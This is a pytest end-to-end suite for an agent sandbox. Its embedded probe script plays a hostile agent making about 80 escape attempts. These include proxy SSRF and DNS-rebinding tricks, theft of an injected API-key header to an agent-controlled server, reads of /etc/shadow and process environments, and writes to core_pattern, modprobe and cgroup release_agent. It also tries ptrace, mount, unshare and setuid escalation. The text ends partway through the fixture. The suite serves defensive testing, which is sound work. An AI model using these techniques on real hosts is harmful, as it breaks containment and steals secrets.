"""Escape suite (issue 3 point 8): a hostile agent tries to get out of its
sandbox, and every attempt must fail -- and, where the platform sees it, show up
as an event (`egress` deny for proxy attempts, `limit` for bombs, `exec` for
the attempt's process, `file_access` for workspace writes).

How it runs, to keep the suite quick:
* One main probe run executes a Python script (the host's /usr/bin/python3,
  which the sandbox sees read-only) that performs ~80 attempts and prints one
  JSON line per attempt; each test below reads its own entry from a
  module-scoped fixture and asserts one attempt.
* Before it, run A (a second, long run) writes a marker into its own
  workspace; the probe looks for it everywhere.
* The test side starts the targets itself: on the host, TCP and UDP listeners
  on 127.0.0.1 and ::1 and a host abstract unix socket (what the sandbox must
  never reach); in the stack's test upstream network (198.18.0.0/15, a network
  namespace: conftest TestNetHTTPServer) the HTTP upstreams and sinks the
  egress policy allows, through an approved egress profile (their addresses
  are not public) and their .test names; marker files in the stack's state
  dirs, a team secret for header injection. After the run it checks that
  nothing reached them.
* Separate short runs: fork/memory/disk bombs, symlinks in the workspace and
  the diff artifact, bad managed-file paths (refused by the API).

Network safety: every address used is loopback (127.0.0.0/8, ::1), the test
upstream network of the stack (names in /etc/hosts), or a name in the reserved
.invalid TLD, which the proxy denies before resolving. No packet leaves this
machine. Complements test_sandbox_isolation.py (syscall
denials, caps, masked paths), test_limits.py, test_cancel.py and
tests/e2e/test_e2e_egress.py / test_e2e_network.py; the attempts here are
distinct from theirs.
"""

import hashlib
import http.server
import json
import os
import pathlib
import select
import socket
import threading
import time
import uuid

import pytest
import requests
import websocket

import conftest as c

e2e = c.e2e
PY = "/usr/bin/python3"
TOK = uuid.uuid4().hex[:12]


# ---------------------------------------------------------------- host-side targets


class Recorder(c.e2e.TestNetHTTPServer):
    """An HTTP server in the test upstream network recording every request."""

    def __init__(self, index):
        self.requests = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                outer.requests.append({"path": self.path, "headers": list(self.headers.items()),
                                       "body": body})
                out = b"upstream ok\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            do_GET = do_POST = _any

            def log_message(self, *a):
                pass

        super().__init__(Handler, index=index)

    def blob(self):
        return b"".join(json.dumps([r["path"], r["headers"]]).encode() + r["body"] for r in self.requests)


class RawSink:
    """A TCP listener recording every connection and every byte it receives;
    with index, on that address of the test upstream network."""

    def __init__(self, family=socket.AF_INET, addr="127.0.0.1", index=None):
        self.conns = []
        self.data = b""
        if index is not None:
            addr = e2e.test_upstream_addrs()[index]
            self.host, self.name = addr, os.environ["PADDOCK_TEST_UPSTREAM_NAMES"].split()[index]
            self.sock = e2e.in_test_netns(lambda: socket.socket(family, socket.SOCK_STREAM))
        else:
            self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((addr, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.stop = False
        threading.Thread(target=self._loop, daemon=True).start()

    def _loop(self):
        while not self.stop:
            r, _, _ = select.select([self.sock], [], [], 0.2)
            if not r:
                continue
            try:
                conn, peer = self.sock.accept()
            except OSError:
                return
            self.conns.append(peer)
            conn.settimeout(2)
            try:
                while True:
                    d = conn.recv(65536)
                    if not d:
                        break
                    self.data += d
            except OSError:
                pass
            conn.close()

    def close(self):
        self.stop = True
        self.sock.close()


class UdpSink:
    def __init__(self, family, addr):
        self.sock = socket.socket(family, socket.SOCK_DGRAM)
        self.sock.bind((addr, 0))
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]

    def received(self):
        got = []
        while True:
            try:
                got.append(self.sock.recvfrom(65536))
            except BlockingIOError:
                return got

    def close(self):
        self.sock.close()


def has_ipv6():
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.bind(("::1", 0))
        s.close()
        return True
    except OSError:
        return False


# ---------------------------------------------------------------- the probe

PROBE = r'''
import ctypes, errno, json, os, socket, ssl, struct, subprocess, sys, time
A = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def en(e):
    return errno.errorcode.get(e, str(e))

def report(name, value):
    print("ESC " + json.dumps({"name": name, "r": value}), flush=True)

def attempt(name, fn):
    try:
        v = fn()
    except Exception as e:
        v = {"exc": type(e).__name__, "errno": en(e.errno) if getattr(e, "errno", None) else None,
             "msg": str(e)[:300]}
    report(name, v)

def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_ulong(a) if isinstance(a, int) else a for a in args])
    return {"ret": r, "errno": en(ctypes.get_errno()) if r == -1 else None}

def run(argv, timeout=15):
    try:
        p = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=timeout)
        return {"rc": p.returncode, "out": p.stdout.decode(errors="replace")[-400:],
                "err": p.stderr.decode(errors="replace")[-400:]}
    except Exception as e:
        return {"rc": None, "exc": type(e).__name__, "msg": str(e)[:200]}

def tcp(family, addr, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((addr, port))
        return {"connected": True}
    except OSError as e:
        return {"connected": False, "errno": en(e.errno) if e.errno else type(e).__name__}
    finally:
        s.close()

def udp(family, addr, port):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    res = {}
    try:
        s.sendto(b"paddock-escape-udp", (addr, port))
        res["sent"] = True
        try:
            d = s.recv(4096)
            res["reply"] = d.decode(errors="replace")
        except OSError as e:
            res["reply"] = None
            res["recv_errno"] = en(e.errno) if e.errno else type(e).__name__
    except OSError as e:
        res["sent"] = False
        res["errno"] = en(e.errno) if e.errno else type(e).__name__
    finally:
        s.close()
    return res

def try_open(path, mode="rb", data=None):
    try:
        with open(path, mode) as f:
            if data is not None:
                f.write(data)
                return {"ok": True}
            return {"ok": True, "data": f.read(4096).decode(errors="replace")}
    except OSError as e:
        return {"ok": False, "errno": en(e.errno)}

def proxy_exchange(raw, read_all=False):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    try:
        s.sendall(raw)
        data = b""
        while b"\r\n\r\n" not in data:
            d = s.recv(4096)
            if not d:
                break
            data += d
        return s, data
    except Exception:
        s.close()
        raise

def connect_via_proxy(target, host_header=None):
    raw = ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, host_header or target)).encode()
    s, data = proxy_exchange(raw)
    s.close()
    return {"status": data.split(b"\r\n")[0].decode(errors="replace")}

def get_via_proxy(url_target, host_header, path="/"):
    raw = ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (url_target, host_header)).encode()
    s, data = proxy_exchange(raw)
    s.close()
    return {"status": data.split(b"\r\n")[0].decode(errors="replace")}

def tunnel_then(target, after):
    """CONNECT target, then run `after` on the open tunnel."""
    raw = ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode()
    s, data = proxy_exchange(raw)
    res = {"status": data.split(b"\r\n")[0].decode(errors="replace")}
    try:
        res.update(after(s))
    except Exception as e:
        res.update({"exc": type(e).__name__, "msg": str(e)[:200]})
    finally:
        try:
            s.close()
        except Exception:
            pass
    return res

def tls(sni):
    def go(s):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.close()
        return {"tls": "handshake ok"}
    return go

def plain_in_tunnel(s):
    s.sendall(b"GET / HTTP/1.1\r\nHost: fronted.paddock-escape.invalid\r\n\r\n")
    s.settimeout(5)
    d = s.recv(4096)
    return {"reply": d.decode(errors="replace")[:200]}

def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)

L, L6, U4, U6 = A["tcp4"], A["tcp6"], A["udp4"], A["udp6"]
P, Q, Rb, F = A["hdr_port"], A["agent_port"], A["rebind_port"], A["front_port"]
HN, HA, QA, RbN, FN = A["hdr_name"], A["hdr_addr"], A["agent_addr"], A["rebind_name"], A["front_name"]

# ---- network: host loopback, interfaces, routes
attempt("tcp4_host_loopback", lambda: tcp(socket.AF_INET, "127.0.0.1", L))
attempt("tcp6_host_loopback", lambda: tcp(socket.AF_INET6, "::1", L6))
attempt("udp4_host_loopback", lambda: udp(socket.AF_INET, "127.0.0.1", U4))
attempt("udp6_host_loopback", lambda: udp(socket.AF_INET6, "::1", U6))
attempt("tcp_host_127_0_0_2", lambda: tcp(socket.AF_INET, "127.0.0.2", L))
attempt("tcp_test_upstream_direct", lambda: tcp(socket.AF_INET, QA, Q))
attempt("tcp_host_stack_api", lambda: tcp(socket.AF_INET, "127.0.0.1", A["api_port"]))

def sysfs_net():
    return {"exists": os.path.isdir("/sys/class/net"),
            "list": sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else []}
attempt("iface_sys_class_net", sysfs_net)
attempt("iface_proc_net_dev",
        lambda: {"ifaces": sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:])})
attempt("route_ipv4", lambda: {"devs": [l.split()[0] for l in open("/proc/net/route").read().splitlines()[1:] if l.split()]})
attempt("route_ipv6", lambda: {"devs": [l.split()[-1] for l in open("/proc/net/ipv6_route").read().splitlines() if l.split()]})
attempt("iface_if_inet6", lambda: {"devs": sorted(set(l.split()[-1] for l in open("/proc/net/if_inet6").read().splitlines() if l.split()))})

def sockets_seen():
    ports = set()
    for f in ("tcp", "tcp6", "udp", "udp6"):
        try:
            for l in open("/proc/net/" + f).read().splitlines()[1:]:
                ports.add(int(l.split()[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return {"ports": sorted(ports)}
attempt("host_sockets_in_proc_net", sockets_seen)
attempt("netlink_add_interface", lambda: run(["ip", "link", "add", "pdesc0", "type", "dummy"]))

# ---- DNS
attempt("dns_getaddrinfo_invalid", lambda: {"addrs": [a[4][0] for a in socket.getaddrinfo("escape-%s.paddock.invalid" % A["tok"], 443)]})
attempt("dns_getaddrinfo_host_name", lambda: {"addrs": [a[4][0] for a in socket.getaddrinfo(A["host_hostname"], 443)]})
def dns_udp(family, addr):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(dns_query("escape.paddock.invalid"), (addr, 53))
        d = s.recv(4096)
        return {"answered": True, "len": len(d)}
    except OSError as e:
        return {"answered": False, "errno": en(e.errno) if e.errno else type(e).__name__}
    finally:
        s.close()
attempt("dns_udp_127_0_0_53", lambda: dns_udp(socket.AF_INET, "127.0.0.53"))
attempt("dns_udp_ipv6_loopback", lambda: dns_udp(socket.AF_INET6, "::1"))
attempt("dns_tcp_127_0_0_1", lambda: tcp(socket.AF_INET, "127.0.0.1", 53))
attempt("dns_resolv_conf", lambda: {"nameservers": [l for l in open("/etc/resolv.conf").read().splitlines() if l.startswith("nameserver")]})

# ---- raw sockets
def mksock(fam, typ, proto):
    s = socket.socket(fam, typ, proto)
    s.close()
    return {"created": True}
attempt("raw_af_packet", lambda: mksock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
attempt("raw_icmp", lambda: mksock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw_icmpv6", lambda: mksock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt("raw_ip_hdrincl", lambda: mksock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))

# ---- host abstract unix socket
def abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect("\0" + A["abstract"])
        s.sendall(b"escaped")
        return {"connected": True}
    except OSError as e:
        return {"connected": False, "errno": en(e.errno)}
    finally:
        s.close()
attempt("abstract_unix_host", abstract)
attempt("abstract_unix_listed", lambda: {"listed": A["abstract"] in open("/proc/net/unix").read()})

# ---- proxy: IP literals in every spelling, disallowed host, rebinding, fronting
for name, target in (("decimal", "2130706433:%d" % L), ("octal", "0177.0.0.1:%d" % L),
                     ("hex", "0x7f.1:%d" % L), ("short", "127.1:%d" % L), ("ipv6", "[::1]:%d" % L6),
                     ("mapped", "[::ffff:127.0.0.1]:%d" % L), ("mapped_hex", "[::ffff:7f00:1]:%d" % L),
                     ("dotted", "127.0.0.1:%d" % L)):
    attempt("proxy_literal_" + name, lambda t=target: connect_via_proxy(t))
attempt("proxy_literal_plain_http", lambda: get_via_proxy("http://2130706433:%d/lit" % L, "2130706433:%d" % L))
attempt("proxy_disallowed_host_connect", lambda: connect_via_proxy("blocked-%s.paddock.invalid:443" % A["tok"]))
attempt("proxy_disallowed_host_get", lambda: get_via_proxy("http://blocked-%s.paddock.invalid/x" % A["tok"], "blocked-%s.paddock.invalid" % A["tok"]))
attempt("proxy_host_header_mismatch", lambda: connect_via_proxy("127.0.0.1:%d" % L, host_header="%s:%d" % (HN, P)))
attempt("proxy_origin_form_host_header", lambda: get_via_proxy("/origin", "127.0.0.1:%d" % L))
attempt("proxy_rebinding_connect", lambda: connect_via_proxy("%s:%d" % (RbN, Rb)))
attempt("proxy_rebinding_get", lambda: get_via_proxy("http://%s:%d/rebind" % (RbN, Rb), "%s:%d" % (RbN, Rb)))
attempt("proxy_rebinding_case", lambda: connect_via_proxy("%s:%d" % (RbN.upper(), Rb)))
attempt("proxy_fronting_sni", lambda: tunnel_then("%s:%d" % (FN, F), tls("front-%s.paddock.invalid" % A["tok"])))
attempt("proxy_fronting_no_sni", lambda: tunnel_then("%s:%d" % (FN, F), tls(None)))
attempt("proxy_fronting_plain_http", lambda: tunnel_then("%s:%d" % (FN, F), plain_in_tunnel))

# ---- header secret: used through the proxy, then searched for everywhere
def use_header_secret():
    import urllib.request
    req = urllib.request.Request("http://%s:%d/hdr" % (HN, P), headers={"X-Api-Key": "agent-value"})
    with urllib.request.urlopen(req, timeout=20) as r:
        return {"status": r.status, "body": r.read().decode(errors="replace")}
attempt("secret_header_use", use_header_secret)
# the agent asks the proxy to deliver to a server it controls, claiming the secret's host
attempt("secret_header_to_own_server", lambda: get_via_proxy("http://%s:%d/steal" % (QA, Q), "%s:%d" % (HN, P)))
attempt("secret_header_tunnel_to_upstream", lambda: tunnel_then("%s:%d" % (HA, P), lambda s: (s.sendall(("GET /tunnel HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % HN).encode()), {"reply": s.recv(4096).decode(errors="replace")[:300]})[1]))

def secret_search():
    pfx = A["secret_prefix_rev"][::-1].encode()  # reversed in argv: our own cmdline must not match
    hits = []
    for k, v in os.environ.items():
        if pfx in (k + "=" + v).encode():
            hits.append("env:" + k)
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        for f in ("environ", "cmdline"):
            try:
                if pfx in open("/proc/%s/%s" % (p, f), "rb").read():
                    hits.append("/proc/%s/%s" % (p, f))
            except OSError:
                pass
    for top in ("/workspace", "/tmp", "/etc", "/dev/shm", "/run", "/var", "/root", "/home", "/opt", "/srv"):
        for dp, dns, fns in os.walk(top, onerror=lambda e: None):
            for fn in fns:
                fp = os.path.join(dp, fn)
                try:
                    if os.path.isfile(fp) and os.path.getsize(fp) < (4 << 20) and pfx in open(fp, "rb").read():
                        hits.append(fp)
                except OSError:
                    pass
    return {"hits": hits}
attempt("secret_search_sandbox", secret_search)

# ---- host files, other runs, runner-agent
attempt("host_etc_hostname", lambda: try_open("/etc/hostname"))
attempt("host_etc_shadow", lambda: try_open("/etc/shadow"))
attempt("host_etc_passwd_users", lambda: {"users": [l.split(":")[0] for l in open("/etc/passwd").read().splitlines() if l]})
attempt("host_paths_visible", lambda: {p: os.path.lexists(p) for p in A["host_paths"]})
attempt("host_marker_read", lambda: {p: try_open(p) for p in A["host_markers"]})
attempt("host_marker_via_proc_root", lambda: {p: try_open("/proc/1/root" + p) for p in A["host_markers"]})
def handle_open():
    buf = ctypes.create_string_buffer(struct.pack("II", 8, 1) + b"\x02\x00\x00\x00\x00\x00\x00\x00")
    return sc(304, ctypes.c_long(-100 & 0xffffffffffffffff), buf, 0)
attempt("open_by_handle_at", handle_open)

def walk_for(names, contents):
    found = []
    for top in os.listdir("/"):
        if top in ("proc", "sys", "usr", "dev"):
            continue
        for dp, dns, fns in os.walk("/" + top, onerror=lambda e: None):
            for fn in fns + dns:
                fp = os.path.join(dp, fn)
                if any(n in fn for n in names):
                    found.append(fp)
                try:
                    if fn in fns and os.path.isfile(fp) and os.path.getsize(fp) < (1 << 20):
                        d = open(fp, "rb").read()
                        if any(cn.encode() in d for cn in contents):
                            found.append("content:" + fp)
                except OSError:
                    pass
    return {"found": found}
attempt("other_run_walk", lambda: walk_for([A["other_marker_name"]], [A["other_marker_content"]]))
attempt("host_marker_walk", lambda: walk_for([A["host_marker_name"]], [A["host_marker_content"]]))
def other_ws_paths():
    out = {}
    for p in A["other_paths"]:
        out[p] = os.path.lexists(p)
    for p in os.listdir("/proc"):
        if p.isdigit():
            for sub in ("cwd", "root/workspace"):
                q = "/proc/%s/%s/%s" % (p, sub, A["other_marker_name"])
                try:
                    out[q] = os.path.lexists(q)
                except OSError:
                    pass
    return out
attempt("other_run_paths", other_ws_paths)
attempt("other_run_parent_dirs", lambda: {"workspace_parent": sorted(os.listdir("/workspace/..")), "up3": sorted(os.listdir("/workspace/../../.."))})

rp = A["runner_pid"]
attempt("runner_environ", lambda: try_open("/proc/%d/environ" % rp))
attempt("runner_mem", lambda: try_open("/proc/%d/mem" % rp))
attempt("runner_kill", lambda: (os.kill(rp, 0), {"signalled": True})[1])
attempt("runner_ptrace_attach", lambda: sc(101, 16, rp, 0, 0))
def all_environ():
    out = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                out[p] = open("/proc/%s/environ" % p, "rb").read().decode(errors="replace").split("\0")
            except OSError as e:
                out[p] = en(e.errno)
    return out
attempt("proc1_environ", lambda: try_open("/proc/1/environ"))
attempt("all_environ", all_environ)
def procs():
    out = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                out[p] = open("/proc/%s/comm" % p).read().strip()
            except OSError:
                pass
    return {"procs": out, "ps": run(["ps", "-e", "-o", "pid=,comm="])}
attempt("host_processes", procs)

# ---- ptrace, mount, unshare, modules
child = subprocess.Popen(["sleep", "30"])
attempt("ptrace_seize_sibling", lambda: sc(101, 0x4206, child.pid, 0, 0))
child.kill(); child.wait()
os.makedirs("/tmp/mnt", exist_ok=True)
attempt("mount_bind_root", lambda: sc(165, ctypes.c_char_p(b"/"), ctypes.c_char_p(b"/tmp/mnt"), ctypes.c_char_p(None), 0x1000 | 0x4000, 0))
attempt("mount_proc", lambda: sc(165, ctypes.c_char_p(b"proc"), ctypes.c_char_p(b"/tmp/mnt"), ctypes.c_char_p(b"proc"), 0, 0))
attempt("mount_cgroup_release_agent", lambda: sc(165, ctypes.c_char_p(b"cgroup"), ctypes.c_char_p(b"/tmp/mnt"), ctypes.c_char_p(b"cgroup"), 0, ctypes.c_char_p(b"rdma")))
attempt("fsopen", lambda: sc(430, ctypes.c_char_p(b"tmpfs"), 0))
attempt("open_tree", lambda: sc(428, ctypes.c_long(-100 & 0xffffffffffffffff), ctypes.c_char_p(b"/"), 1 | 0x80000))
attempt("pivot_root", lambda: sc(155, ctypes.c_char_p(b"/tmp/mnt"), ctypes.c_char_p(b"/tmp/mnt")))
attempt("mount_binary", lambda: run(["mount", "-t", "tmpfs", "none", "/tmp/mnt"]))
attempt("unshare_pid", lambda: sc(272, 0x20000000))
attempt("unshare_cgroup", lambda: sc(272, 0x02000000))
attempt("unshare_ipc_uts", lambda: sc(272, 0x08000000 | 0x04000000))
attempt("unshare_binary", lambda: run(["unshare", "-Urn", "id", "-u"]))
attempt("finit_module", lambda: sc(313, os.open("/dev/null", os.O_RDONLY), ctypes.c_char_p(b""), 0))
attempt("delete_module", lambda: sc(176, ctypes.c_char_p(b"ext4"), 0x800))
attempt("sysfs_cgroup", lambda: {"exists": os.path.lexists("/sys/fs/cgroup"), "release_agent": try_open("/sys/fs/cgroup/release_agent", "wb", b"/evil")})

# ---- writes outside the workspace, /proc/sys, space limits
attempt("write_dev", lambda: try_open("/dev/paddock-escape", "wb", b"x"))
attempt("write_sys", lambda: try_open("/sys/paddock-escape", "wb", b"x"))
attempt("write_var", lambda: try_open("/var/paddock-escape", "wb", b"x"))
attempt("write_bin", lambda: try_open("/bin/paddock-escape", "wb", b"x"))
attempt("write_proc_core_pattern", lambda: try_open("/proc/sys/kernel/core_pattern", "wb", b"|/workspace/evil"))
attempt("write_proc_modprobe", lambda: try_open("/proc/sys/kernel/modprobe", "wb", b"/workspace/evil"))
attempt("write_proc_ip_forward", lambda: try_open("/proc/sys/net/ipv4/ip_forward", "wb", b"1"))
attempt("write_proc_drop_caches", lambda: try_open("/proc/sys/vm/drop_caches", "wb", b"3"))
attempt("write_uevent_helper", lambda: try_open("/sys/kernel/uevent_helper", "wb", b"/workspace/evil"))
def fill(path, mb):
    written = 0
    try:
        with open(path, "wb") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(mb):
                f.write(chunk)
                f.flush()
                written += 1
        return {"full": False, "written_mb": written}
    except OSError as e:
        return {"full": True, "errno": en(e.errno), "written_mb": written}
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
attempt("tmp_fill", lambda: fill("/tmp/fill", A["disk_mb"] + 16))
attempt("dev_shm_fill", lambda: fill("/dev/shm/fill", 80))

# ---- keyrings, io_uring
attempt("request_key", lambda: sc(249, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"paddock"), ctypes.c_char_p(None), 0xfffffffd))
attempt("keyctl_join_session", lambda: sc(250, 1, ctypes.c_char_p(b"paddock-escape")))
attempt("io_uring_enter", lambda: sc(426, 0, 1, 1, 0, 0, 0))
attempt("io_uring_register", lambda: sc(427, 0, 0, 0, 0))

# ---- device nodes
attempt("mknod_block_sda", lambda: sc(133, ctypes.c_char_p(b"/tmp/sda"), 0o60600, (8 << 8) | 0))
attempt("mknod_dev_mem_workspace", lambda: sc(133, ctypes.c_char_p(b"/workspace/mem"), 0o20600, (1 << 8) | 1))
for dev in ("sda", "vda", "nvme0n1", "mem", "kmem", "port", "kmsg"):
    attempt("open_dev_" + dev, lambda d=dev: try_open("/dev/" + d))
attempt("proc_kmsg", lambda: try_open("/proc/kmsg"))
attempt("syslog_read", lambda: sc(103, 3, ctypes.create_string_buffer(4096), 4096))
attempt("dmesg_binary", lambda: run(["dmesg"]))

# ---- setuid binaries and credentials
def setuid_copy():
    import shutil
    shutil.copy("/usr/bin/id", "/workspace/suid-id")
    res = {}
    try:
        os.chown("/workspace/suid-id", 0, 0)
        res["chown"] = "ok"
    except OSError as e:
        res["chown"] = en(e.errno)
    try:
        os.chmod("/workspace/suid-id", 0o4755)
        res["chmod"] = "ok"
    except OSError as e:
        res["chmod"] = en(e.errno)
    st = os.stat("/workspace/suid-id")
    res["owner"] = st.st_uid
    res["run"] = run(["/workspace/suid-id", "-u"])
    return res
attempt("setuid_root_copy", setuid_copy)
attempt("setuid_su", lambda: run(["su", "-c", "id -u", "root"]))
attempt("setuid_passwd_status", lambda: run(["passwd", "-S", "agent"]))
attempt("setuid_sudo", lambda: run(["sudo", "-n", "id", "-u"]))
attempt("setuid_newgrp", lambda: run(["newgrp", "root"]))
attempt("setuid_syscall", lambda: sc(105, 0))
attempt("setresuid_syscall", lambda: sc(117, 0, 0, 0))
def capset():
    hdr = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    data = ctypes.create_string_buffer(struct.pack("IIIIII", 0xffffffff, 0xffffffff, 0, 0xffffffff, 0xffffffff, 0))
    return sc(126, hdr, data)
attempt("capset_raise", capset)
attempt("no_new_privs", lambda: {"nnp": [l.split()[1] for l in open("/proc/self/status") if l.startswith("NoNewPrivs")][0]})

# ---- time
ts = ctypes.create_string_buffer(struct.pack("qq", 0, 0))
attempt("clock_settime", lambda: sc(227, 0, ts))
tx = ctypes.create_string_buffer(256)
struct.pack_into("I", tx, 0, 0x0001)
attempt("adjtimex", lambda: sc(159, tx))
attempt("clock_adjtime", lambda: sc(305, 0, tx))
attempt("date_binary", lambda: run(["date", "-s", "2001-01-01"]))

print("PROBE done", flush=True)
'''


def wait_output(endpoints, token, run_id, needle, timeout=60):
    """Reads the run's stream until `needle` appears in its output."""
    ws = websocket.create_connection(e2e.stream_url(endpoints, run_id),
                                     header=[f"Authorization: Bearer {token}"], timeout=timeout)
    deadline = time.monotonic() + timeout
    seen = ""
    try:
        while time.monotonic() < deadline:
            ev = json.loads(ws.recv())
            if ev.get("kind") == "output":
                seen += ev["data"].get("text", "")
                if needle in seen:
                    return
            assert not ev.get("terminal") and not (
                ev.get("kind") == "status" and ev["data"].get("status") in e2e.TERMINAL), \
                f"run {run_id} ended before printing {needle!r}: {ev} {seen[-500:]}"
    finally:
        ws.close()
    raise AssertionError(f"run {run_id}: {needle!r} not printed within {timeout} s: {seen[-500:]}")


def history(api, res, run_id):
    last = max(e["seq"] for e in res.events)
    return e2e.wait_events_recorded(api, run_id, last)


def runner_pid():
    return int((e2e.state_dir() / "pids" / "runner-agent.pid").read_text().split()[0])


@pytest.fixture(scope="module")
def world(endpoints, admin_token, api, runs, team_id):
    """Starts every host-side target, run A, then the probe run B; gathers the
    results and what reached the targets."""
    v6 = has_ipv6()
    tcp4 = RawSink(socket.AF_INET, "127.0.0.1")
    tcp6 = RawSink(socket.AF_INET6, "::1") if v6 else None
    udp4 = UdpSink(socket.AF_INET, "127.0.0.1")
    udp6 = UdpSink(socket.AF_INET6, "::1") if v6 else None
    abstract_name = f"paddock-escape-{uuid.uuid4()}"
    ab = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    ab.bind("\0" + abstract_name)
    ab.listen(4)
    ab.setblocking(False)
    hdr_up = Recorder(0)                 # the configured upstream of the header secret
    agent_up = Recorder(1)               # a server the agent controls (explicitly allowed)
    rebind = RawSink(index=2)            # only allowed by an inline host rule naming it: its
                                         # address is not public and no profile covers it
    front = RawSink(index=3)             # allowed by name and address: fronting target

    state = e2e.state_dir()
    rsd = pathlib.Path(os.environ["PADDOCK_RUNNER_STATE_DIR"])
    host_marker_name = f"escape-marker-{TOK}"
    host_marker_content = f"host-secret-content-{uuid.uuid4().hex}"
    host_markers = [state / host_marker_name, rsd / host_marker_name]
    for m in host_markers:
        m.write_text(host_marker_content)

    secret_prefix = f"pdesc{TOK}"
    secret_value = f"{secret_prefix}-{uuid.uuid4().hex}"
    secret_name = f"ESCAPE_HDR_{TOK.upper()}"
    api.ok("PUT", f"/v1/teams/{team_id}/secrets/{secret_name}", json={"value": secret_value},
           expect=(200, 201, 204))

    other_name = f"a-marker-{TOK}.txt"
    other_content = f"run-a-content-{uuid.uuid4().hex}"
    run_a = runs.start(c.spec(["/bin/sh", "-c", f"echo {other_content} > {other_name}; echo READY; sleep 300"],
                              timeout_s=400))
    out = {}
    try:
        wait_output(endpoints, admin_token, run_a, "READY", timeout=90)
        sb_a = c.sandbox_id(api, run_a)  # A's paths: its run id, or its pooled sandbox's id
        host_hostname = pathlib.Path("/etc/hostname").read_text().strip()
        api_port = int(endpoints.api.rsplit(":", 1)[1].split("/")[0])
        args = {
            "tok": TOK, "tcp4": tcp4.port, "tcp6": tcp6.port if tcp6 else tcp4.port,
            "udp4": udp4.port, "udp6": udp6.port if udp6 else udp4.port,
            "hdr_port": hdr_up.port, "agent_port": agent_up.port, "rebind_port": rebind.port,
            "front_port": front.port, "api_port": api_port, "abstract": abstract_name,
            "hdr_name": hdr_up.name, "hdr_addr": hdr_up.host, "agent_addr": agent_up.host,
            "rebind_name": rebind.name, "front_name": front.name,
            "host_hostname": host_hostname, "secret_prefix_rev": secret_prefix[::-1],
            "host_paths": ["/root", "/work", "/home", str(state), str(rsd), "/var/lib/postgresql",
                           "/var/lib/ceph", str(e2e.REPO)],
            "host_markers": [str(m) for m in host_markers],
            "host_marker_name": host_marker_name, "host_marker_content": host_marker_content,
            "other_marker_name": other_name, "other_marker_content": other_content,
            "other_paths": [str(rsd / "runs" / sb_a / "workspace" / other_name),
                            f"/workspace/../{sb_a}/workspace/{other_name}",
                            f"/workspace/../../runs/{sb_a}/workspace/{other_name}",
                            f"/../../../{rsd}/runs/{sb_a}/workspace/{other_name}"],
            "runner_pid": runner_pid(), "disk_mb": 32,
        }
        spec = c.spec([PY, "/workspace/probe.py", json.dumps(args)], timeout_s=240, disk_mb=32, memory_mb=1024,
                      files=[{"path": "probe.py", "content": PROBE, "mode": "0644"}])
        prof = e2e.egress_profile(api, [hdr_up.hostport, agent_up.hostport, f"{front.host}:{front.port}"])
        spec["egress"] = {"allow": [hdr_up.nameport, f"{rebind.name}:{rebind.port}", f"{front.name}:{front.port}"],
                          "profiles": [prof], "unknown": "deny"}
        spec["secrets"] = [{"name": secret_name, "as": {"header": {"host": hdr_up.name, "name": "X-Api-Key"}}}]
        run_b = runs.start(spec)
        res = e2e.wait_terminal(endpoints, admin_token, run_b, timeout=300)
        time.sleep(1.0)  # let late UDP datagrams / connections land before looking
        out.update(
            run_id=run_b, res=res, args=args, secret=secret_value,
            tcp4_conns=list(tcp4.conns), tcp6_conns=list(tcp6.conns) if tcp6 else [],
            udp4_got=udp4.received(), udp6_got=udp6.received() if udp6 else [],
            rebind_conns=list(rebind.conns), front_data=front.data, front_conns=list(front.conns),
            hdr_up=hdr_up, agent_up=agent_up, v6=v6)
        try:
            ab.accept()
            out["abstract_accepted"] = True
        except BlockingIOError:
            out["abstract_accepted"] = False
        results = {}
